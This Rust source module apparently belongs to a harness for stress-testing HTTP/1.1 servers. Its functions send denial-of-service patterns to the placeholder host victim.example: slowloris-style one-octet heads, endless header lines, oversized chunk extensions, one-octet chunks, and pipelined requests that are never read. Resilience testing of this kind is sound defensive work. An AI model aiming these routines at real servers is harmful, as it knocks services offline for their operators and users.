//! What is done in HTTP/1.1.

use std::io;
use std::thread;
use std::time::Duration;

use crate::peer::Peer;

/// A request's head, one octet now and then.
pub fn slow_head(peer: &mut Peer) -> io::Result<()> {
    const HEAD: &[u8] = b"GET /attack/small HTTP/1.1\r\nhost: victim.example\r\nx-slow: ";
    thread::sleep(Duration::from_millis(100));
    let at = usize::try_from(peer.said()).unwrap_or(usize::MAX);
    peer.say(&[HEAD.get(at).copied().unwrap_or(b'x')])
}

/// The beginning of a head.
pub fn begin_head(peer: &mut Peer) -> io::Result<()> {
    peer.say(b"GET /attack/small HTTP/1.1\r\nhost: victim.example\r\n")
}

/// Field lines without end.
pub fn endless_head(peer: &mut Peer) -> io::Result<()> {
    peer.say(&b"x-more: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n".repeat(100))
}

/// A request whose content comes in chunks.
pub fn begin_upload(peer: &mut Peer) -> io::Result<()> {
    peer.say(b"POST /attack/upload HTTP/1.1\r\nhost: victim.example\r\ntransfer-encoding: chunked\r\n\r\n")
}

/// One octet of content behind 4 KiB that mean nothing.
pub fn chunk_extensions(peer: &mut Peer) -> io::Result<()> {
    let chunk = [b"1;".as_slice(), &[b'e'; 4_000], b"\r\nx\r\n"].concat();
    peer.say(&chunk.repeat(10))
}

/// Chunks of one octet.
pub fn tiny_chunks(peer: &mut Peer) -> io::Result<()> {
    peer.say(&b"1\r\nx\r\n".repeat(1_000))
}

/// Requests for much, by somebody who reads nothing.
pub fn pipelined(peer: &mut Peer) -> io::Result<()> {
    peer.say(&b"GET /attack/big HTTP/1.1\r\nhost: victim.example\r\n\r\n".repeat(100))
}
